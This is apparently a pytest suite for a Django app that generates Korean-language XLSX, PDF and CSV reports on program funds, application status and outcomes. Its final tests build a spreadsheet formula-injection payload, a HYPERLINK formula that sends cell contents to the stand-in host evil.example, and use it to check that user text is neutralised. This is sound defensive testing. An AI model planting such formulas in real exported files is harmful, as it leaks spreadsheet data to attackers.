"""Each kind × format of docs/domain.md §9 makes a valid file: Korean headers, frozen header row, filters, the
KRW format and native charts in XLSX; Korean text and charts in PDF; BOM and header in CSV."""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from PIL import Image

from applicants.models import Application
from reports.generators import FORMATS, generate
from reports.generators.progress import Progress, ticking
from reports.models import Report
from reports.tests.report_data import outcome_for, populated_program, report_for

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("isolated_media")]


K, F = Report.Kind, Report.Format
S = Application.Status
KRW = '#,##0"원"'


def make(tmp_path, kind, fmt, **fields):
    report = report_for(kind, fmt, **fields)
    path = tmp_path / f"out.{fmt}"
    seen = []
    generate(report, str(path), seen.append)
    assert seen == sorted(seen) and all(0 <= p <= 99 for p in seen), seen
    return path


def workbook(path):
    return openpyxl.load_workbook(path)


def header(sheet) -> list[str]:
    return [cell.value for cell in sheet[1]]


def money_formats(sheet) -> set[str]:
    return {
        cell.number_format
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, int)
    }


def assert_table(sheet, first_header: str):
    assert header(sheet)[0] == first_header
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")


def chart_count(path) -> int:
    with zipfile.ZipFile(path) as archive:
        return sum(name.startswith("xl/charts/chart") for name in archive.namelist())


def test_the_formats_each_kind_comes_in():
    assert FORMATS == {
        "fund_status": ["xlsx"],
        "program_status": ["xlsx", "pdf"],
        "outcomes": ["xlsx", "pdf"],
        "applications_export": ["xlsx", "csv"],
    }


def test_fund_status_xlsx(tmp_path):
    program = populated_program()
    path = make(tmp_path, K.FUND_STATUS, F.XLSX, program=program)
    book = workbook(path)
    assert book.sheetnames == ["사업별 기금", "과제별 약정·집행", "정보"]
    funds = book["사업별 기금"]
    assert_table(funds, "사업")
    assert "정부 조성액" in header(funds) and "주관기관 잔액" in header(funds)
    row = [cell.value for cell in funds[2]]
    assert row[0] == program.title
    # government pot: 1.5억 in, 3 × 4,500만 committed, 7,500만 paid
    assert row[4:9] == [1_500_000_000, 135_000_000, 75_000_000, 0, 1_365_000_000]  # nothing recovered
    assert funds.cell(row=2, column=5).number_format == KRW
    detail = book["과제별 약정·집행"]
    assert_table(detail, "사업")
    assert detail.max_row == 4  # header + the three funded applications
    assert KRW in money_formats(detail)
    assert len(funds._charts) == 1 and chart_count(path) == 1


def test_program_status_xlsx(tmp_path):
    program = populated_program()
    path = make(tmp_path, K.PROGRAM_STATUS, F.XLSX, program=program)
    book = workbook(path)
    assert book.sheetnames == [
        "사업별 현황",
        "상태별",
        "지원수준별",
        "지역별",
        "평가점수",
        "멘토링",
        "협약·점검",
        "정보",
    ]
    summary = book["사업별 현황"]
    assert_table(summary, "사업")
    values = [cell.value for cell in summary[2]]
    assert values[:8] == [program.title, 2026, program.sponsor.name, 7, 3, 1, 1, 1]
    assert summary.cell(row=2, column=9).number_format == KRW
    statuses = book["상태별"]
    assert_table(statuses, "상태")
    counts = {row[0].value: row[1].value for row in statuses.iter_rows(min_row=2)}
    assert counts["선정"] == 1 and counts["작성중"] == 1 and counts["탈락"] == 1
    assert_table(book["지역별"], "지역")
    assert chart_count(path) == 4  # by status, level, region; the score bands
    assert all(len(book[name]._charts) == 1 for name in ("상태별", "지원수준별", "지역별", "평가점수"))


def test_outcomes_xlsx(tmp_path):
    program = populated_program()
    path = make(tmp_path, K.OUTCOMES, F.XLSX, program=program)
    book = workbook(path)
    kpis = book["성과지표"]
    assert_table(kpis, "성과지표")
    rows = {row[0].value: [cell.value for cell in row] for row in kpis.iter_rows(min_row=2)}
    # productivity 100 → 130 for the adopter, 100 → 105 for the rejected applicant
    assert rows["생산성(시간당 생산량)"][2:7] == [1, 30.0, 1, 5.0, 25.0]
    # defect rate 5 → 2 is an improvement of 60 %
    assert rows["불량률(%)"][3] == 60.0
    assert len(kpis._charts) == 1
    detail = book["기업별 성과"]
    assert_table(detail, "사업")
    assert detail.max_row == 5  # 2 KPIs × (adopter + comparison)
    assert {row[3].value for row in detail.iter_rows(min_row=2)} == {"도입기업", "비교군"}


def test_measured_figures_show_their_own_decimals_and_no_trailing_dot(tmp_path):
    """Excel shows 130 under "#,##0.####" as "130."; each figure gets exactly its decimals."""
    program = populated_program()
    completed = program.applications.get(status=S.COMPLETED)
    outcome_for(completed, kpi="lead_time", baseline="12.125", result="1234.5")
    detail = workbook(make(tmp_path, K.OUTCOMES, F.XLSX, program=program))["기업별 성과"]
    shown = {
        (cell.value, cell.number_format)
        for row in detail.iter_rows(min_row=2)
        for cell in row[5:7]  # 도입 전, 도입 후
    }
    assert {(100, "#,##0"), (130, "#,##0"), (2, "#,##0"), (4.5, "#,##0.0")} <= shown
    assert {(12.125, "#,##0.000"), (1234.5, "#,##0.0")} <= shown
    assert not any(fmt.endswith((".", ".#", "#")) for _value, fmt in shown)
    hours = workbook(make(tmp_path, K.PROGRAM_STATUS, F.XLSX, program=program))["멘토링"]
    assert [(c.value, c.number_format) for c in hours[hours.max_row]] == [
        ("멘토링 시간 합계", "General"),
        (2.5, "#,##0.0"),
    ]


def test_outcomes_for_a_sponsor_list_only_adopters_row_by_row(tmp_path):
    program = populated_program()
    path = make(tmp_path, K.OUTCOMES, F.XLSX, program=program, scope="sponsor")
    detail = workbook(path)["기업별 성과"]
    assert {row[3].value for row in detail.iter_rows(min_row=2)} == {"도입기업"}


def test_applications_export_xlsx_applies_the_stored_filters(tmp_path):
    program = populated_program()
    path = make(tmp_path, K.APPLICATIONS_EXPORT, F.XLSX, program=program, filters={"region": "경북"})
    sheet = workbook(path)["신청서"]
    assert_table(sheet, "접수번호")
    assert "총사업비(원)" in header(sheet)
    regions = [row[4].value for row in sheet.iter_rows(min_row=2)]
    assert regions == ["경북", "경북", "경북"]
    assert KRW in money_formats(sheet)


def test_applications_export_csv_has_a_bom_and_the_korean_header(tmp_path):
    program = populated_program()
    path = make(tmp_path, K.APPLICATIONS_EXPORT, F.CSV, program=program, filters={"status": ["selected"]})
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["접수번호", "사업", "기업명"]
    assert len(rows) == 2 and rows[1][9] == "선정"


def test_a_sponsor_export_keeps_to_the_projects_the_sponsor_may_see(tmp_path):
    program = populated_program()
    path = make(tmp_path, K.APPLICATIONS_EXPORT, F.CSV, program=program, scope="sponsor")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert sorted(row[9] for row in rows[1:]) == ["구축", "선정", "완료"]


def pdf_text(path) -> str:
    return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout


def assert_page_one_is_drawn(path, tmp_path):
    if not shutil.which("pdftoppm"):
        return
    subprocess.run(
        ["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "1", str(path), str(tmp_path / "page")], check=True
    )
    image = Image.open(next(tmp_path.glob("page*.png")))
    dark = sum(1 for value in image.convert("L").tobytes() if value < 128)
    assert dark > 2_000, f"page 1 is (nearly) blank: {dark} dark pixels"
    # the charts' bars are coloured: some pixels are far from grey
    rgb = image.convert("RGB").tobytes()
    assert any(abs(rgb[i] - rgb[i + 2]) > 60 for i in range(0, len(rgb), 3))


@pytest.mark.parametrize("kind", [K.PROGRAM_STATUS, K.OUTCOMES])
def test_pdf_reports_render_korean_text_and_charts(tmp_path, kind):
    program = populated_program()
    path = make(tmp_path, kind, F.PDF, program=program)
    assert path.read_bytes().startswith(b"%PDF")
    assert_page_one_is_drawn(path, tmp_path)
    if shutil.which("pdftotext"):
        text = pdf_text(path)
        assert "보고서" in text and program.title in text
        assert ("상태별" in text) if kind == K.PROGRAM_STATUS else ("생산성" in text and "비교군" in text)
    if shutil.which("pdffonts"):
        fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True).stdout
        assert "Noto-Sans-CJK-KR" in fonts  # embedded, not a fallback without Hangul


def pdf_pages(path) -> list[list[str]]:
    """The PDF's text page by page, laid out as printed (a table row on one line)."""
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    return [[line.strip() for line in page.splitlines()] for page in text.split("\f")]


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="needs poppler-utils")
def test_a_pdf_table_running_over_pages_repeats_its_header_on_each(tmp_path, monkeypatch):
    from reports.generators import program_status

    rows = [(f"일지 {i:03d}", i, "count") for i in range(1, 121)]
    monkeypatch.setattr(program_status, "_mentoring_items", lambda mentoring: rows)
    path = make(tmp_path, K.PROGRAM_STATUS, F.PDF, program=populated_program())
    pages = [page for page in pdf_pages(path) if any(line.startswith("일지 ") for line in page)]
    assert len(pages) >= 2, "the table runs over several pages"
    for page in pages:
        header = page.index(next(line for line in page if re.fullmatch(r"항목\s+값", line)))
        first_row = next(i for i, line in enumerate(page) if line.startswith("일지 "))
        assert header < first_row  # the header heads the table on this page too
    printed = [
        re.fullmatch(r"일지 (\d+)\s+(\d+)", line)
        for page in pages
        for line in page
        if line.startswith("일지 ")
    ]
    assert [(int(m[1]), int(m[2])) for m in printed] == [
        (i, i) for i in range(1, 121)
    ]  # whole rows, in order


class NotPrinted:
    def __init__(self, **kwargs):
        pass

    def write_pdf(self, target):
        Path(target).write_bytes(b"%PDF-")


def test_every_table_of_the_pdf_reports_has_a_header_row(tmp_path, monkeypatch):
    """WeasyPrint repeats a table's <thead> on every page the table runs over: each has one."""
    from reports.generators import pdf

    printed, render = [], pdf.render_to_string

    def keep(*args, **kwargs):
        printed.append(render(*args, **kwargs))
        return printed[-1]

    monkeypatch.setattr(pdf, "render_to_string", keep)
    monkeypatch.setattr("weasyprint.HTML", NotPrinted)  # the HTML is what this test reads
    populated_program()
    populated_program(year=2025)  # two programs: the per-program table is printed too
    for kind in (K.PROGRAM_STATUS, K.OUTCOMES):
        make(tmp_path, kind, F.PDF)
    tables = [table for html in printed for table in re.findall(r"<table>.*?</table>", html, flags=re.S)]
    assert len(tables) >= 6
    assert all("<thead>" in table for table in tables), [t[:80] for t in tables if "<thead>" not in t]


def test_reports_of_nothing_are_still_valid_files(tmp_path):
    for kind, formats in FORMATS.items():
        for fmt in formats:
            path = make(tmp_path, kind, fmt)
            assert path.stat().st_size > 0
            if fmt == "xlsx":
                assert workbook(path).sheetnames


def test_progress_is_stored_at_most_every_two_percent_or_second():
    stored, now = [], [0.0]
    progress = Progress(stored.append, clock=lambda: now[0])
    for percent in (0, 1, 1.5, 2, 3, 3.9, 4, 50, 40, 51):
        progress(percent)
    assert stored == [2, 4, 50]  # 51 is too close to 50, and it's the same second
    now[0] = 1.5
    progress(51)
    progress(120)
    assert stored == [2, 4, 50, 51, 99]  # a second later 51 is stored; 100 is left to the finish


def test_ticking_moves_progress_over_the_rows():
    seen = []
    assert list(ticking(range(4), total=4, progress=seen.append, start=10, end=90)) == [0, 1, 2, 3]
    assert seen == [30, 50, 70, 90]


EVIL = 'HYPERLINK("http://evil.example/?"&A1,"click")'


def poisoned_program(prefix: str):
    """The populated program with every piece of user text starting with `prefix`."""
    from applicants.models import Application, Company

    program = populated_program()
    program.title = f"{prefix}{EVIL}"
    program.save(update_fields=["title"])
    program.sponsor.name = f"{prefix}sponsor"
    program.sponsor.save(update_fields=["name"])
    applications = Application.objects.filter(program=program)
    applications.update(title=f"{prefix}{EVIL}")
    Company.objects.filter(applications__in=applications).update(name=f"{prefix}1+1")
    return program


def text_cells(book):
    """Every cell holding user text (the poisoned strings), over all sheets."""
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and ("HYPERLINK" in cell.value or "1+1" in cell.value)
    ]


@pytest.mark.parametrize(
    "kind", [K.APPLICATIONS_EXPORT, K.FUND_STATUS, K.PROGRAM_STATUS, K.OUTCOMES], ids=lambda k: k
)
@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_user_text_is_never_a_formula_in_a_workbook(tmp_path, kind, prefix):
    program = poisoned_program(prefix)
    cells = text_cells(workbook(make(tmp_path, kind, F.XLSX, program=program)))
    assert cells, "the poisoned text is in the report"
    for cell in cells:
        assert cell.data_type == "s", (cell.parent.title, cell.coordinate, cell.value)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_user_text_is_neutralised_in_a_csv_report(tmp_path, prefix):
    program = poisoned_program(prefix)
    path = make(tmp_path, K.APPLICATIONS_EXPORT, F.CSV, program=program)
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    titles = [row[7] for row in rows[1:]] + [row[1] for row in rows[1:]] + [row[2] for row in rows[1:]]
    assert titles and all(cell.startswith("'" + prefix) for cell in titles), titles
    assert all(row[8].isdigit() for row in rows[1:])  # the amounts stay plain numbers
